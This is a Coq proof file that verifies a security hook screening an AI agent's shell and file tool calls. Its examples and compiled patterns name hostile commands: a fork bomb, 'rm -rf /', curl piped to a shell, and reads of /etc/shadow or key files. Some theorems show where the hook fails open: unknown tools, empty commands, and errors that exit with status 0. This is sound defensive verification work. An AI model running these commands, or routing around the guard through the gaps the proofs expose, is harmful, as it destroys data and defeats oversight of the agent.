        match parameters with
        | VDict ps =>
            if eq_str tool_name "Bash" && negb (is_str (field_value ps "command"))
            then Some ("'" ++ type_name (field_value ps "command")
                           ++ "' object has no attribute 'lower'")
            else None
        | _ => Some ("'" ++ type_name parameters ++ "' object has no attribute 'get'")
        end
      else None
  | _ => Some ("'" ++ type_name tool_data ++ "' object has no attribute 'get'")
  end.

(** The path-checked tools. *)
Definition path_tools : list string :=
  ["Read"; "Write"; "Edit"; "MultiEdit"; "Glob"; "Grep"; "LS"].

(** How the denial of each path-checked tool begins. *)
Definition blocked_text (tool : string) : string :=
  if String.eqb tool "Glob" then "Blocked glob access to sensitive path"
  else if String.eqb tool "Grep" then "Blocked grep access to sensitive path"
  else if String.eqb tool "LS" then "Blocked directory listing of sensitive path"
  else "Blocked access to sensitive file".

(** The literal characters a pattern begins with. *)
Fixpoint literal_head (r : Re.regex) : string :=
  match r with
  | Re.Seq (Re.Lit c) r' => String c (literal_head r')
  | _ => EmptyString
  end.

(** The tree patterns whose directory is also an exact path rule. *)
Definition shadowed_path_patterns : list string :=
  [ "/root/.*"; "/boot/.*"; "/sys/.*"; "/proc/sys/.*"; "/dev/.*";
    "/var/log/.*"; "/var/spool/cron/.*" ].

(** * Properties *)

(** ** Sanity checks of the string functions *)

Example lower_mixed : Str.lower "RM -Rf /Tmp" = "rm -rf /tmp".
Proof. reflexivity. Qed.

Example strip_both : Str.strip "  ls -la  " = "ls -la".
Proof. reflexivity. Qed.

Example replace_star : Str.replace "/home/*/.ssh" "*" "" = "/home//.ssh".
Proof. reflexivity. Qed.

Example replace_slash_star : Str.replace "/home/*/.ssh" "/*" "" = "/home/.ssh".
Proof. reflexivity. Qed.

Example contains_mid : Str.contains "/dev" "/home/user/dev/notes.txt" = true.
Proof. reflexivity. Qed.

Example repr_nested :
  str (VList [VStr "/etc/passwd"; VInt (-3); VDict [("k", VNone)]; VBool true])
  = "['/etc/passwd', -3, {'k': None}, True]".
Proof. reflexivity. Qed.

(** ** The evaluator on the sample invocations of the specification *)

Example allows_ls_la :
  validate_tool_call listed_order (invocation "Bash" [("command", VStr "ls -la")])
  = Ok (true, "Operation allowed").
Proof. vm_compute. reflexivity. Qed.

Example denies_fork_bomb :
  validate_tool_call listed_order (invocation "Bash" [("command", VStr ":(){ :|:& };:")])
  = Ok (false, "Blocked dangerous Bash command: Dangerous command detected: :(){ :|:& };:").
Proof. vm_compute. reflexivity. Qed.

Example allows_readme :
  validate_tool_call listed_order
    (invocation "Read" [("file_path", VStr "/home/user/project/README.md")])
  = Ok (true, "Operation allowed").
Proof. vm_compute. reflexivity. Qed.

Example denies_listing_etc_ssh :
  validate_tool_call listed_order (invocation "LS" [("path", VStr "/etc/ssh")])
  = Ok (false,
        "Blocked directory listing of sensitive path: Access to sensitive path: /etc/ssh").
Proof. vm_compute. reflexivity. Qed.

Example fault_on_record_that_is_a_list :
  validate_tool_call listed_order (VList [])
  = Raise (Exc AttributeError "'list' object has no attribute 'get'").
Proof. reflexivity. Qed.

Example fault_on_command_that_is_a_number :
  run_hook listed_order (Loaded (invocation "Bash" [("command", VInt 7)]))
  = {| stderr := ["Security hook error: 'int' object has no attribute 'lower'"];
       status := 0 |}.
Proof. vm_compute. reflexivity. Qed.

(** ** Strings *)

Section StringFacts.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma append_empty_r (a : string) : a ++ "" = a.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma lower_append (a b : string) : Str.lower (a ++ b) = Str.lower a ++ Str.lower b.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma prefix_append (p s : string) : prefix p (p ++ s) = true.
Proof.
  induction p as [|x p IH]; simpl.
  - now destruct s.
  - destruct (ascii_dec x x) as [_|ne]; [exact IH | now elim ne].
Qed.

Lemma contains_prefix (sub s : string) : prefix sub s = true -> Str.contains sub s = true.
Proof. intros H. destruct s; cbn -[prefix]; rewrite H; reflexivity. Qed.

Lemma contains_append (sub a b : string) : Str.contains sub (a ++ sub ++ b) = true.
Proof.
  induction a as [|x a IH]; simpl.
  - apply contains_prefix, prefix_append.
  - rewrite IH. apply orb_true_r.
Qed.

Lemma prefix_split (p s : string) : prefix p s = true -> exists t, s = p ++ t.
Proof.
  revert s; induction p as [|x p IH]; intros s H.
  - now exists s.
  - destruct s as [|y s]; simpl in H; [discriminate|].
    destruct (ascii_dec x y) as [->|]; [|discriminate].
    destruct (IH s H) as [t ->]. now exists t.
Qed.

Lemma contains_split (sub s : string) :
  Str.contains sub s = true -> exists a b, s = a ++ sub ++ b.
Proof.
  induction s as [|x s IH]; cbn -[prefix]; intros H.
  - rewrite orb_false_r in H. destruct (prefix_split _ _ H) as [t ->]. now exists "", t.
  - apply orb_true_iff in H as [H|H].
    + destruct (prefix_split _ _ H) as [t ->]. now exists "", t.
    + destruct (IH H) as (a & b & ->). now exists (String x a), b.
Qed.

Lemma contains_nonempty (sub s : string) :
  Str.nonempty sub = true -> Str.contains sub s = true -> Str.nonempty s = true.
Proof.
  intros Hsub H. destruct s; [|reflexivity].
  destruct sub; [discriminate | simpl in H; discriminate].
Qed.

(** Stripping leaves alone whatever lies between two characters that are
    not white space. *)
Lemma lstrip_append (a : string) (x : ascii) (t : string) :
  Char.isspace x = false ->
  Str.lstrip (a ++ String x t) = Str.lstrip a ++ String x t.
Proof.
  intros Hx. induction a as [|y a IH]; simpl.
  - now rewrite Hx.
  - destruct (Char.isspace y); [exact IH | reflexivity].
Qed.

Lemma rstrip_keeps (x : ascii) (b : string) :
  Char.isspace x = false ->
  Str.rstrip (String x b) = String x (Str.rstrip b).
Proof.
  intros Hx. simpl. destruct (Str.rstrip b); [now rewrite Hx | reflexivity].
Qed.

Lemma rstrip_append (a : string) (x : ascii) (b : string) :
  Char.isspace x = false ->
  Str.rstrip (a ++ String x b) = a ++ String x (Str.rstrip b).
Proof.
  intros Hx. induction a as [|y a IH].
  - apply rstrip_keeps, Hx.
  - change (String y a ++ String x b) with (String y (a ++ String x b)).
    cbn [Str.rstrip]. rewrite IH.
    destruct a; reflexivity.
Qed.

Lemma contains_strip (x y : ascii) (mid s : string) :
  Char.isspace x = false -> Char.isspace y = false ->
  Str.contains (String x (mid ++ String y "")) s = true ->
  Str.contains (String x (mid ++ String y "")) (Str.strip s) = true.
Proof.
  intros Hx Hy H. apply contains_split in H as (a & b & ->).
  unfold Str.strip.
  change (String x (mid ++ String y "") ++ b)
    with (String x ((mid ++ String y "") ++ b)).
  rewrite lstrip_append by exact Hx.
  rewrite (append_assoc mid).
  change (Str.lstrip a ++ String x (mid ++ String y "" ++ b))
    with (Str.lstrip a ++ String x mid ++ String y b).
  rewrite <- (append_assoc (Str.lstrip a)).
  rewrite rstrip_append by exact Hy.
  rewrite append_assoc.
  change (String x mid ++ String y (Str.rstrip b))
    with (String x (mid ++ String y "" ++ Str.rstrip b)).
  rewrite <- (append_assoc mid).
  change (String x ((mid ++ String y "") ++ Str.rstrip b))
    with (String x (mid ++ String y "") ++ Str.rstrip b).
  apply contains_append.
Qed.

End StringFacts.

(** ** Loops with an early return *)

Section Loops.

Context {A B : Type}.

Lemma for_return_none (l : list A) (body : A -> option B) :
  for_return l body = None <-> forall x, In x l -> body x = None.
Proof.
  induction l as [|a l IH]; simpl.
  - split; [intros _ x [] | reflexivity].
  - destruct (body a) eqn:E.
    + split; [discriminate|]. intros H. rewrite (H a) in E by now left. discriminate.
    + rewrite IH. split.
      * intros H x [<-|Hx]; [exact E | now apply H].
      * intros H x Hx. apply H. now right.
Qed.

Lemma for_return_some (l : list A) (body : A -> option B) (b : B) :
  for_return l body = Some b -> exists x, In x l /\ body x = Some b.
Proof.
  induction l as [|a l IH]; simpl; [discriminate|].
  destruct (body a) eqn:E.
  - intros [= <-]. exists a. now split; [left|].
  - intros H. destruct (IH H) as (x & Hx & Hb). exists x. now split; [right|].
Qed.

(** Whether the loop returns at all does not depend on the order in which
    it visits the elements. *)
Lemma for_return_none_perm (l l' : list A) (body : A -> option B) :
  Permutation l l' -> for_return l body = None -> for_return l' body = None.
Proof.
  intros P H. apply for_return_none. intros x Hx.
  apply (proj1 (for_return_none l body) H).
  apply Permutation_in with (l := l'); [now apply Permutation_sym | exact Hx].
Qed.

End Loops.

(** ** Regular expressions *)

Section RegexFacts.

Variable ic : bool.

Lemma ends_seq (r1 r2 : Re.regex) (s t u : string) :
  In t (Re.ends ic r1 s) -> In u (Re.ends ic r2 t) -> In u (Re.ends ic (Re.Seq r1 r2) s).
Proof. intros H1 H2. simpl. apply in_flat_map. now exists t. Qed.

Lemma ends_lit (c x : ascii) (t : string) :
  Re.char_matches ic c x = true -> In t (Re.ends ic (Re.Lit c) (String x t)).
Proof. intros H. simpl. rewrite H. now left. Qed.

Lemma ends_empty (s : string) : In s (Re.ends ic Re.Empty s).
Proof. now left. Qed.

(** A repetition may take no round at all. *)
Lemma ends_star_zero (r : Re.regex) (s : string) : In s (Re.ends ic (Re.Star r) s).
Proof.
  simpl. destruct (length s); simpl; [now left|].
  apply in_or_app. right. now left.
Qed.

Lemma matches_at_in (r : Re.regex) (s u : string) :
  In u (Re.ends ic r s) -> Re.matches_at ic r s = true.
Proof. unfold Re.matches_at. destruct (Re.ends ic r s); [intros [] | reflexivity]. Qed.

(** [re.search] looks at every start position. *)
Lemma search_from_append (r : Re.regex) (a b : string) :
  Re.matches_at ic r b = true -> Re.search_from ic r (a ++ b) = true.
Proof.
  intros H. induction a as [|x a IH]; simpl.
  - destruct b; simpl; rewrite H; reflexivity.
  - rewrite IH. apply orb_true_r.
Qed.

End RegexFacts.

(** *** The matcher computes the matching relation *)

Section MatcherCorrect.

Variable ic : bool.

Lemma star_ends_self (step : string -> list string) (fuel : nat) (s : string) :
  In s (Re.star_ends step fuel s).
Proof. destruct fuel; simpl; [now left | apply in_or_app; right; now left]. Qed.

Lemma star_ends_step (step : string -> list string) (fuel : nat) (s t u : string) :
  In t (step s) -> length t < length s ->
  In u (Re.star_ends step fuel t) ->
  In u (Re.star_ends step (S fuel) s).
Proof.
  intros Ht Hlt Hu. simpl. apply in_or_app. left.
  apply in_flat_map. exists t. split; [exact Ht|].
  now rewrite (proj2 (Nat.ltb_lt _ _) Hlt).
Qed.

(** Fuel beyond the length of the subject changes nothing. *)
Lemma star_ends_fuel (step : string -> list string) (u : string) :
  forall f1 f2 s,
    length s <= f1 -> length s <= f2 ->
    In u (Re.star_ends step f1 s) -> In u (Re.star_ends step f2 s).
Proof.
  induction f1 as [|f1 IH]; intros f2 s H1 H2 Hu.
  - simpl in Hu. destruct Hu as [<- | []]. apply star_ends_self.
  - simpl in Hu. apply in_app_or in Hu as [Hu | [<- | []]]; [|apply star_ends_self].
    apply in_flat_map in Hu as (t & Ht & Hu).
    destruct (Nat.ltb_spec (length t) (length s)) as [Hlt|]; [|contradiction].
    destruct f2 as [|f2]; [lia|].
    apply star_ends_step with (t := t); trivial.
    apply IH; trivial; lia.
Qed.

Lemma star_ends_sound (r : Re.regex) :
  (forall s t, In t (Re.ends ic r s) -> Re.Matches ic r s t) ->
  forall fuel s u,
    In u (Re.star_ends (Re.ends ic r) fuel s) -> Re.Matches ic (Re.Star r) s u.
Proof.
  intros Hr. induction fuel as [|fuel IH]; intros s u Hu; simpl in Hu.
  - destruct Hu as [<- | []]. constructor.
  - apply in_app_or in Hu as [Hu | [<- | []]]; [|constructor].
    apply in_flat_map in Hu as (t & Ht & Hu).
    destruct (length t <? length s)%nat; [|contradiction].
    apply Re.MStarStep with (t := t); auto.
Qed.

Lemma one_char_in (ok : ascii -> bool) (s t : string) :
  In t (Re.one_char ok s) <-> exists x, s = String x t /\ ok x = true.
Proof.
  destruct s as [|x s]; simpl.
  - split; [intros [] | intros (x & [=] & _)].
  - destruct (ok x) eqn:E; simpl.
    + split.
      * intros [<- | []]. now exists x.
      * intros (y & [= -> ->] & _). now left.
    + split; [intros [] | intros (y & [= -> ->] & E'); congruence].
Qed.

Theorem ends_sound (r : Re.regex) :
  forall s t, In t (Re.ends ic r s) -> Re.Matches ic r s t.
Proof.
  induction r as [|c| | |negated items| |r1 IH1 r2 IH2|r1 IH1 r2 IH2|r IH|r IH|r IH];
    intros s t Ht; simpl in Ht.
  - destruct Ht as [<- | []]. constructor.
  - apply one_char_in in Ht as (x & -> & Hx). now constructor.
  - apply one_char_in in Ht as (x & -> & Hx). constructor.
    now apply negb_true_iff in Hx.
  - apply one_char_in in Ht as (x & -> & Hx). now constructor.
  - apply one_char_in in Ht as (x & -> & Hx). now constructor.
  - destruct (Re.at_end s) eqn:E; [|contradiction].
    destruct Ht as [<- | []]. now constructor.
  - apply in_flat_map in Ht as (m & Hm & Ht). apply Re.MSeq with (t := m); auto.
  - apply in_app_or in Ht as [Ht | Ht]; [apply Re.MAltL | apply Re.MAltR]; auto.
  - now apply (star_ends_sound r IH) in Ht.
  - apply in_flat_map in Ht as (m & Hm & Ht).
    apply Re.MPlus with (t := m); [auto|]. now apply (star_ends_sound r IH) in Ht.
  - apply in_app_or in Ht as [Ht | [<- | []]]; [apply Re.MOptSome; auto | apply Re.MOptNone].
Qed.

(** What a match leaves is a suffix of the subject. *)
Lemma matches_suffix (r : Re.regex) (s t : string) :
  Re.Matches ic r s t -> exists p, s = p ++ t.
Proof.
  induction 1;
    try (now exists "");
    try (now exists (String x ""));
    try assumption.
  - destruct IHMatches1 as [p ->], IHMatches2 as [q ->].
    exists (p ++ q). now rewrite append_assoc.
  - destruct IHMatches1 as [p ->], IHMatches2 as [q ->].
    exists (p ++ q). now rewrite append_assoc.
  - destruct IHMatches1 as [p ->], IHMatches2 as [q ->].
    exists (p ++ q). now rewrite append_assoc.
Qed.

Lemma length_append (a b : string) : length (a ++ b) = length a + length b.
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma matches_shorter_or_same (r : Re.regex) (s t : string) :
  Re.Matches ic r s t -> length t < length s \/ t = s.
Proof.
  intros H. destruct (matches_suffix _ _ _ H) as [p ->].
  destruct p as [|x p]; [now right | left].
  simpl. rewrite length_append. lia.
Qed.

Theorem ends_complete (r : Re.regex) (s t : string) :
  Re.Matches ic r s t -> In t (Re.ends ic r s).
Proof.
  induction 1; cbn [Re.ends].
  - now left.
  - apply one_char_in. now exists x.
  - apply one_char_in. exists x. split; [reflexivity|]. now apply negb_true_iff.
  - apply one_char_in. now exists x.
  - apply one_char_in. now exists x.
  - rewrite H. now left.
  - apply in_flat_map. now exists t.
  - apply in_or_app. now left.
  - apply in_or_app. now right.
  - apply star_ends_self.
  - destruct (matches_shorter_or_same _ _ _ H) as [Hlt | ->]; [|exact IHMatches2].
    cbn [Re.ends] in IHMatches2.
    destruct (length s) as [|n] eqn:E; [lia|].
    apply star_ends_step with (t := t); [exact IHMatches1 | lia |].
    apply star_ends_fuel with (f1 := length t); [lia | lia | exact IHMatches2].
  - apply in_flat_map. exists t. split; [exact IHMatches1 | exact IHMatches2].
  - apply in_or_app. now left.
  - apply in_or_app. right. now left.
Qed.

(** [matches_at] decides whether the pattern matches at the start. *)
Theorem matches_at_spec (r : Re.regex) (s : string) :
  Re.matches_at ic r s = true <-> exists t, Re.Matches ic r s t.
Proof.
  unfold Re.matches_at. split.
  - destruct (Re.ends ic r s) as [|t l] eqn:E; [discriminate|].
    intros _. exists t. apply ends_sound. rewrite E. now left.
  - intros [t Ht]. apply ends_complete in Ht.
    destruct (Re.ends ic r s); [destruct Ht | reflexivity].
Qed.

(** [search_from] decides whether the pattern matches at some position. *)
Theorem search_from_spec (r : Re.regex) (s : string) :
  Re.search_from ic r s = true <-> exists a b t, s = a ++ b /\ Re.Matches ic r b t.
Proof.
  induction s as [|x s IH]; simpl.
  - rewrite orb_false_r, matches_at_spec. split.
    + intros [t Ht]. now exists "", "", t.
    + intros (a & b & t & E & Ht).
      destruct a; [|discriminate]. simpl in E. subst b. now exists t.
  - rewrite orb_true_iff, matches_at_spec, IH. split.
    + intros [[t Ht] | (a & b & t & -> & Ht)].
      * now exists "", (String x s), t.
      * now exists (String x a), b, t.
    + intros (a & b & t & E & Ht). destruct a as [|y a]; simpl in E.
      * left. subst b. now exists t.
      * right. injection E as -> ->. now exists a, b, t.
Qed.

End MatcherCorrect.

(** *** The compiled catalog *)

Example compile_root_wipe :
  Re.compile "rm\s+-rf?\s+/[^/\s]*/?$"
  = Some
      (Re.Seq (Re.Lit "r") (Re.Seq (Re.Lit "m") (Re.Seq (Re.Plus Re.Space)
      (Re.Seq (Re.Lit "-") (Re.Seq (Re.Lit "r") (Re.Seq (Re.Opt (Re.Lit "f"))
      (Re.Seq (Re.Plus Re.Space) (Re.Seq (Re.Lit "/")
      (Re.Seq (Re.Star (Re.CharSet true [Re.ItemChar "/"; Re.ItemSpace]))
      (Re.Seq (Re.Opt (Re.Lit "/")) (Re.Seq Re.EndOfString Re.Empty))))))))))).
Proof. reflexivity. Qed.

Example compile_pipe_to_shell :
  Re.compile "curl.*\|\s*(sh|bash|zsh)"
  = Some
      (Re.Seq (Re.Lit "c") (Re.Seq (Re.Lit "u") (Re.Seq (Re.Lit "r") (Re.Seq (Re.Lit "l")
      (Re.Seq (Re.Star Re.Dot) (Re.Seq (Re.Lit "|") (Re.Seq (Re.Star Re.Space)
      (Re.Seq
         (Re.Alt (Re.Seq (Re.Lit "s") (Re.Seq (Re.Lit "h") Re.Empty))
            (Re.Alt
               (Re.Seq (Re.Lit "b") (Re.Seq (Re.Lit "a") (Re.Seq (Re.Lit "s")
                  (Re.Seq (Re.Lit "h") Re.Empty))))
               (Re.Seq (Re.Lit "z") (Re.Seq (Re.Lit "s")
                  (Re.Seq (Re.Lit "h") Re.Empty)))))
         Re.Empty)))))))).
Proof. reflexivity. Qed.

Example compile_key_file :
  Re.compile ".*\.pem$"
  = Some
      (Re.Seq (Re.Star Re.Dot) (Re.Seq (Re.Lit ".") (Re.Seq (Re.Lit "p")
      (Re.Seq (Re.Lit "e") (Re.Seq (Re.Lit "m") (Re.Seq Re.EndOfString Re.Empty)))))).
Proof. reflexivity. Qed.

Example search_root_wipe_variants :
  map (fun command => Re.search "rm\s+-rf?\s+/[^/\s]*/?$" command true)
      ["rm -rf /"; "RM  -r /tmp/"; "rm -rf /tmp/build"; "rm -rf ./build"]
  = [true; true; false; false].
Proof. reflexivity. Qed.

Example search_needs_ignorecase :
  Re.search ".*\.pem$" "server.PEM" true = true
  /\ Re.search ".*\.pem$" "server.PEM" false = false.
Proof. split; reflexivity. Qed.

(** Every pattern of the catalog compiles. *)
Lemma catalog_compiles :
  forallb (fun p => match Re.compile p with Some _ => true | None => false end)
          (DANGEROUS_PATTERNS ++ SENSITIVE_PATH_PATTERNS)%list = true.
Proof. vm_compute. reflexivity. Qed.

(** ** The two checks *)

Section Checks.

Context {A B : Type}.

Lemma for_return_if_none (l : list A) (test : A -> bool) (f : A -> B) :
  for_return l (fun x => if test x then Some (f x) else None) = None
  <-> existsb test l = false.
Proof.
  induction l as [|a l IH]; simpl; [tauto|].
  destruct (test a); simpl; [split; discriminate | exact IH].
Qed.

Lemma for_return_if_some (l : list A) (test : A -> bool) (f : A -> B) (b : B) :
  for_return l (fun x => if test x then Some (f x) else None) = Some b ->
  exists x, In x l /\ test x = true /\ b = f x.
Proof.
  intros H. apply for_return_some in H as (x & Hx & Hb).
  exists x. destruct (test x); [|discriminate].
  injection Hb as <-. auto.
Qed.

(** The loop returns at the first element that passes the test. *)
Lemma for_return_if_first (l : list A) (test : A -> bool) (f : A -> B) (b : B) :
  for_return l (fun x => if test x then Some (f x) else None) = Some b ->
  exists before x after,
    l = (before ++ x :: after)%list
    /\ existsb test before = false /\ test x = true /\ b = f x.
Proof.
  induction l as [|a l IH]; simpl; [discriminate|].
  destruct (test a) eqn:E.
  - intros [= <-]. exists [], a, l. auto.
  - intros H. destruct (IH H) as (before & x & after & -> & Hb & Hx & ->).
    exists (a :: before), x, after. simpl. rewrite E. auto.
Qed.

Lemma existsb_perm (l l' : list A) (test : A -> bool) :
  Permutation l l' -> existsb test l = existsb test l'.
Proof.
  intros P. induction P; simpl.
  - reflexivity.
  - now rewrite IHP.
  - now rewrite !orb_assoc, (orb_comm (test y)).
  - congruence.
Qed.

End Checks.

Lemma existsb_commands (o : set_order) (test : string -> bool) :
  existsb test (commands_order o) = existsb test DANGEROUS_COMMANDS.
Proof. apply existsb_perm, commands_order_perm. Qed.

Lemma existsb_paths (o : set_order) (test : string -> bool) :
  existsb test (paths_order o) = existsb test SENSITIVE_PATHS.
Proof. apply existsb_perm, paths_order_perm. Qed.

(** [check_sensitive_path] answers [sensitive], in every iteration order,
    and gives a reason exactly when it answers [True]. *)
Lemma check_sensitive_path_flag (o : set_order) (path : value) :
  exists reason,
    check_sensitive_path o path = (sensitive path, reason)
    /\ (sensitive path = true -> exists text, reason = Some text)
    /\ (sensitive path = false -> reason = None).
Proof.
  unfold check_sensitive_path, sensitive.
  fold (exact_path_hit (Str.lower (str path))).
  destruct (for_return (paths_order o) _) as [returned|] eqn:E1.
  - change (fun sensitive_path : string =>
              if Str.contains (Str.replace sensitive_path "*" "") (Str.lower (str path))
                 || Str.startswith (Str.lower (str path)) (Str.replace sensitive_path "/*" "")
              then Some (true, Some ("Access to sensitive path: " ++ sensitive_path))
              else None)
      with (fun x => if exact_path_hit (Str.lower (str path)) x
                     then Some (true, Some ("Access to sensitive path: " ++ x))
                     else @None (bool * option string)) in E1.
    apply for_return_if_some in E1 as (x & Hx & Hhit & ->).
    assert (existsb (exact_path_hit (Str.lower (str path))) SENSITIVE_PATHS = true) as ->.
    { rewrite <- (existsb_paths o). apply existsb_exists. now exists x. }
    rewrite orb_true_l. eexists; split; [reflexivity|]. split; [eauto | discriminate].
  - change (fun sensitive_path : string =>
              if Str.contains (Str.replace sensitive_path "*" "") (Str.lower (str path))
                 || Str.startswith (Str.lower (str path)) (Str.replace sensitive_path "/*" "")
              then Some (true, Some ("Access to sensitive path: " ++ sensitive_path))
              else None)
      with (fun x => if exact_path_hit (Str.lower (str path)) x
                     then Some (true, Some ("Access to sensitive path: " ++ x))
                     else @None (bool * option string)) in E1.
    apply for_return_if_none in E1. rewrite existsb_paths in E1. rewrite E1, orb_false_l.
    destruct (@for_return string (bool * option string) SENSITIVE_PATH_PATTERNS _)
      as [returned|] eqn:E2.
    + apply for_return_if_some in E2 as (x & Hx & Hhit & ->).
      assert (existsb (fun p => Re.search p (Str.lower (str path)) true)
                SENSITIVE_PATH_PATTERNS = true) as ->.
      { apply existsb_exists. now exists x. }
      eexists; split; [reflexivity|]. split; [eauto | discriminate].
    + apply for_return_if_none in E2. rewrite E2.
      eexists; split; [reflexivity|]. split; [discriminate | reflexivity].
Qed.

(** [check_dangerous_command] on a string answers [dangerous], in every
    iteration order. *)
Lemma check_dangerous_command_flag (o : set_order) (command : string) :
  exists reason,
    check_dangerous_command o (VStr command) = Ok (dangerous command, reason)
    /\ (dangerous command = true -> exists text, reason = Some text)
    /\ (dangerous command = false -> reason = None).
Proof.
  unfold check_dangerous_command, dangerous. cbn [bind lower_strip str].
  destruct (for_return (commands_order o) _) as [returned|] eqn:E1.
  - apply for_return_if_some in E1 as (x & Hx & Hhit & ->).
    assert (existsb (exact_command_hit command) DANGEROUS_COMMANDS = true) as ->.
    { rewrite <- (existsb_commands o). apply existsb_exists. now exists x. }
    rewrite orb_true_l. eexists; split; [reflexivity|]. split; [eauto | discriminate].
  - apply for_return_if_none in E1. rewrite existsb_commands in E1.
    unfold exact_command_hit. rewrite E1, orb_false_l.
    destruct (@for_return string (bool * option string) DANGEROUS_PATTERNS _)
      as [returned|] eqn:E2.
    + apply for_return_if_some in E2 as (x & Hx & Hhit & ->).
      assert (existsb (fun p => Re.search p command true) DANGEROUS_PATTERNS = true) as ->.
      { apply existsb_exists. now exists x. }
      eexists; split; [reflexivity|]. split; [eauto | discriminate].
    + apply for_return_if_none in E2. rewrite E2.
      eexists; split; [reflexivity|]. split; [discriminate | reflexivity].
Qed.

(** The shared body of the path branches returns a denial exactly for a
    truthy subject that is sensitive. *)
Lemma check_subject_spec (o : set_order) (blocked : string) (path : value) :
  (truthy path && sensitive path = true ->
   exists reason, check_subject o blocked path = Some (false, reason))
  /\ (truthy path && sensitive path = false -> check_subject o blocked path = None).
Proof.
  unfold check_subject.
  destruct (check_sensitive_path_flag o path) as (reason & -> & Hs & Hn).
  destruct (truthy path); simpl.
  - destruct (sensitive path); split; intros H; try discriminate; eauto.
  - split; [discriminate | reflexivity].
Qed.

(** ** The evaluator *)

Lemma calls_get (d : list (string * value)) (tool : string) (ps : list (string * value)) :
  calls d tool ps ->
  get (VDict d) "tool" VNone = Ok (VStr tool)
  /\ get (VDict d) "parameters" (VDict []) = Ok (VDict ps).
Proof.
  intros [Ht [Hp | [Hp ->]]]; simpl; rewrite Ht, Hp; auto.
Qed.

(** The evaluator raises nothing but the [AttributeError] of a method
    call on a value of the wrong type. *)
Lemma validate_raise (o : set_order) (tool_data : value) (e : raised) :
  validate_tool_call o tool_data = Raise e -> exists msg, e = Exc AttributeError msg.
Proof.
  unfold validate_tool_call.
  destruct tool_data as [| | | | |items|d];
    try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
  cbn [get bind].
  set (tool_name := match lookup d "tool" with Some v => v | None => VNone end).
  set (parameters := match lookup d "parameters" with Some v => v | None => VDict [] end).
  destruct (eq_str tool_name "Bash").
  { destruct parameters as [| | | | |items|ps];
      try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
    cbn [get bind].
    destruct (match lookup ps "command" with Some v => v | None => VStr "" end)
      as [| | | | c | |];
      try (cbn [check_dangerous_command lower_strip bind no_attribute];
           intros [= <-]; eauto; fail).
    destruct (check_dangerous_command_flag o c) as (reason & -> & _).
    cbn [bind]. destruct (dangerous c); discriminate. }
  destruct (in_strs tool_name _).
  { destruct parameters as [| | | | |items|ps];
      try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
    cbn [get bind]. destruct (check_subject _ _ _); discriminate. }
  destruct (eq_str tool_name "Glob").
  { destruct parameters as [| | | | |items|ps];
      try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
    cbn [get bind]. destruct (for_return _ _); discriminate. }
  destruct (eq_str tool_name "Grep").
  { destruct parameters as [| | | | |items|ps];
      try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
    cbn [get bind]. destruct (check_subject _ _ _); discriminate. }
  destruct (eq_str tool_name "LS").
  { destruct parameters as [| | | | |items|ps];
      try (cbn [get bind no_attribute]; intros [= <-]; eauto; fail).
    cbn [get bind]. destruct (check_subject _ _ _); discriminate. }
  cbn [bind]. discriminate.
Qed.

Lemma eq_str_other (t s : string) : t <> s -> eq_str (VStr t) s = false.
Proof. intros H. now apply String.eqb_neq. Qed.

(** ** Unknown tools *)

(** C5.  An invocation record whose tool identifier is none of the
    recognized ones (or is absent, or is not a string) is allowed, with
    the reason "Operation allowed", whatever the record holds under
    ["parameters"], in every iteration order. *)
Theorem unknown_tool_allowed (o : set_order) (d : list (string * value)) :
  (forall t, lookup d "tool" = Some (VStr t) -> ~ In t recognized_tools) ->
  validate_tool_call o (VDict d) = Ok (true, "Operation allowed").
Proof.
  intros H. unfold validate_tool_call. cbn [get bind].
  destruct (lookup d "tool") as [[| | | |t| |]|]; try reflexivity.
  specialize (H t eq_refl). unfold in_strs. cbn [existsb].
  rewrite !eq_str_other; [reflexivity | ..];
    intros ->; apply H; simpl; tauto.
Qed.

Lemma unknown_tool_allowed_witness :
  validate_tool_call reversed_order
    (VDict [("tool", VStr "WebFetch");
            ("parameters", VDict [("command", VStr "rm -rf /"); ("path", VStr "/etc/shadow")])])
  = Ok (true, "Operation allowed").
Proof.
  apply unknown_tool_allowed.
  intros t E. injection E as <-. simpl. intuition discriminate.
Defined.

(** ** Empty commands *)

Lemma empty_command_not_dangerous : dangerous "" = false.
Proof. vm_compute. reflexivity. Qed.

(** C7.  A Bash invocation whose parameter mapping has no ["command"], or
    has the empty string there, is allowed: the empty subject is taken by
    no exact rule and by no pattern. *)
Theorem bash_empty_command_allowed
  (o : set_order) (d ps : list (string * value)) :
  calls d "Bash" ps ->
  lookup ps "command" = None \/ lookup ps "command" = Some (VStr "") ->
  dangerous "" = false
  /\ validate_tool_call o (VDict d) = Ok (true, "Operation allowed").
Proof.
  intros Hc Hcmd. split; [exact empty_command_not_dangerous|].
  destruct (calls_get _ _ _ Hc) as [Ht Hp].
  unfold validate_tool_call. rewrite Ht, Hp. cbn [bind eq_str String.eqb Ascii.eqb Bool.eqb].
  assert (get (VDict ps) "command" (VStr "") = Ok (VStr "")) as ->.
  { simpl. destruct Hcmd as [-> | ->]; reflexivity. }
  cbn [bind].
  destruct (check_dangerous_command_flag o "") as (reason & -> & _ & Hn).
  rewrite empty_command_not_dangerous in *. rewrite (Hn eq_refl). reflexivity.
Qed.

Lemma bash_empty_command_allowed_witness :
  (dangerous "" = false
   /\ validate_tool_call listed_order (VDict [("tool", VStr "Bash")])
      = Ok (true, "Operation allowed"))
  /\ (dangerous "" = false
      /\ validate_tool_call reversed_order
           (invocation "Bash" [("timeout", VInt 5); ("command", VStr "")])
         = Ok (true, "Operation allowed")).
Proof.
  split.
  - apply (bash_empty_command_allowed listed_order [("tool", VStr "Bash")] []).
    + split; [reflexivity | right; split; reflexivity].
    + left; reflexivity.
  - apply (bash_empty_command_allowed reversed_order _
             [("timeout", VInt 5); ("command", VStr "")]).
    + split; [reflexivity | left; reflexivity].
    + right; reflexivity.
Defined.

(** ** Commands are not checked against the path rules *)

